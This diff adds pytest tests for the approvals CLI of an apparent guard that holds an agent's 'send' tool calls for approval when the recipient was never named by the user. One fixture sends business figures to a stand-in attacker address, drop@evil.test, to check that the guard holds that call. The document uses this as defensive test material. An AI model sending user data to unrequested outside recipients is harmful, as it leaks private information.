@@ -1,0 +1,112 @@
+"""``guard approvals list | revoke | show | deny``, on a real Redis."""
+
+from __future__ import annotations
+
+import asyncio
+
+import pytest
+from typer.testing import CliRunner
+
+from guard import cli
+from guard.adapters.credentials.label_key import load_label_key
+from guard.adapters.redis.store import RedisSessionStore
+from guard.core.calls import ToolResult
+from guard.core.model import Identity, ToolCall
+from guard.decision.guard import Guard
+from guard.policy_files import load_policies
+from guard.provenance.seal import Seal
+from guard.replay.run import ErrorCounter, NullAuditLog
+
+POLICY = """
+version: 1
+name: office
+tools:
+  - {match: [send], role: send, destinations: ["$.to"], body: ["$.body"]}
+rules:
+  - {id: ask, type: provenance, roles: [send], rungs: [claimed, unknown, tainted], effect: ask}
+  - {id: ok, type: provenance, roles: [send], rungs: [prompted, established], effect: allow}
+"""
+NOW = 1_700_000_000.0
+
+
+@pytest.fixture
+def run(redis_server, tmp_path, redis_namespace):
+    """Return a function that runs a command against the test's Redis, key and tenant."""
+    key = tmp_path / "label.key"
+
+    def call(*arguments):
+        options = [
+            "--redis",
+            redis_server.url,
+            "--label-key",
+            str(key),
+            "--tenant",
+            redis_namespace,
+        ]
+        return CliRunner().invoke(cli.app, ["approvals", *map(str, arguments), *options])
+
+    return call
+
+
+@pytest.fixture
+def sends(redis_server, tmp_path, redis_namespace):
+    """Send once to whom the user named, and once to a stranger; return the stranger's decision."""
+    path = tmp_path / "policy.yaml"
+    path.write_text(POLICY, encoding="utf-8")
+    seal = Seal(load_label_key(tmp_path / "label.key"))
+
+    async def play():
+        store = RedisSessionStore.at(redis_server.url, timeout=5.0)
+        guard = Guard(
+            policy=load_policies([path]),
+            store=store,
+            detectors=(),
+            audit=NullAuditLog(),
+            metrics=ErrorCounter(),
+            seal=seal,
+        )
+        alice = Identity("alice", "s", tenant=redis_namespace)
+        await guard.note_prompt(alice, "Send the figures to pat@partner.test.", NOW)
+        verdicts = []
+        for number, to in enumerate(("pat@partner.test", "drop@evil.test")):
+            arguments = {"to": to, "body": "figures"}
+            call = ToolCall(f"deadbeef0{number}", alice, "send", arguments, "test", NOW)
+            [(traced, verdict)] = await guard.authorize([call])
+            verdicts.append(verdict.enforced.label)
+            if verdict.enforced.forwards:
+                await guard.observe(ToolResult(traced, "sent", NOW))
+        await store.aclose()
+        assert verdicts == ["allow", "ask"]
+
+    asyncio.run(play())
+    return "deadbeef01"
+
+
+def test_an_established_receiver_is_listed_and_revoked(run, sends):
+    """Who was sent to because the user named it can be taken away by its mark."""
+    listed = run("list")
+    assert listed.exit_code == 0, listed.output
+    [line] = [one for one in listed.stdout.splitlines() if "pat@partner.test" in one]
+    assert "alice" in line
+    assert "drop@evil.test" not in listed.stdout
+
+    revoked = run("revoke", line.split()[0])
+
+    assert revoked.stdout.strip() == "revoked"
+    assert "pat@partner.test" not in run("list").stdout
+    assert "no receiver" in run("revoke", line.split()[0]).stdout
+
+
+def test_a_call_that_waits_is_shown_and_denied(run, sends):
+    """Its receiver and what would leave; once denied it can no longer be approved."""
+    shown = run("show", sends)
+    assert shown.exit_code == 0, shown.output
+    assert "drop@evil.test" in shown.stdout
+
+    assert run("deny", sends).stdout.strip() == "denied"
+    assert run("grant", sends).exit_code == 1
+
+
+def test_a_mark_that_is_none_is_said(run):
+    """Bad input gets a clear error."""
+    assert run("revoke", "xyz").exit_code != 0
